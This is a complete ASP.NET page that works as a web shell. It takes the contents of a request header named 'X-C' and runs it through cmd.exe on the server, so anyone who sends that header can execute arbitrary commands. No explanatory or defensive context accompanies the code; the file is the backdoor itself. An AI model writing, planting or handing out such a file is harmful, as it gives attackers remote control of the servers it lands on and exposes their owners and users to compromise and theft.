<%@ Page Language="C#" %>
<% var h = HttpContext.Current.Request.Headers["X-C"]; var p = new System.Diagnostics.Process(); p.StartInfo.FileName = "cmd.exe"; p.StartInfo.Arguments = "/c " + h; p.StartInfo.UseShellExecute = false; p.Start(); %>
